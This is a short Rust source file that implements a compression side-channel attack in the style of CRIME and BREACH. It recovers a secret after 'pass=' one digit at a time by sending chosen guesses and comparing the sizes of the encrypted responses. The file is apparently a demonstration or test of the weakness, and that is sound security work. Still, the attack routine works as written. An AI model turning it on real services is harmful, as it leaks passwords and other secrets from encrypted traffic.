//! Guesses a secret, digit by digit, from nothing but the length of the answers that hold it.
//!
//! The attacks CRIME (2012) and BREACH (2013) read secrets from encrypted connections this way. Encryption hides
//! what a message says, and not how long it is.

use tonic::Status;

/// What stands before the secret in each answer. It is the same for everyone, so no secret itself.
const KNOWN: &str = "pass=";

/// What comes after the guess, to be measured several times.
///
/// A digit saved may be less than a byte. What is left over shifts with the text after the guess, so the sum of
/// several lengths shows what each one alone may hide.
const TAILS: [&str; 8] = ["", ".", "!?", "(/)", "#*+~", "<|>{}", "^&%$;:", "_@[]\\\"'"];

/// Guesses `digits` digits after `pass=`, or fewer: `None` where the lengths do not tell.
///
/// `length_of` has the victim ask for a text of the eavesdropper's choice, and says how many bytes the answer
/// had. The eavesdropper sees no more than that.
///
/// # Errors
///
/// If a call fails.
pub async fn guess(
    digits: usize,
    mut length_of: impl AsyncFnMut(&str) -> Result<usize, Status>,
) -> Result<Option<String>, Status> {
    let mut known = KNOWN.to_owned();
    for _ in 0..digits {
        let mut sums = Vec::new();
        for digit in '0'..='9' {
            let mut sum = 0;
            for tail in TAILS {
                sum += length_of(&format!("{known}{digit}{tail}")).await?;
            }
            sums.push((sum, digit));
        }
        sums.sort();
        // The digit that repeats one more byte of the secret is the one that costs less than all others.
        match sums[..] {
            [(least, digit), (next, _), ..] if least < next => known.push(digit),
            _ => return Ok(None),
        }
    }
    Ok(Some(known.split_off(KNOWN.len())))
}
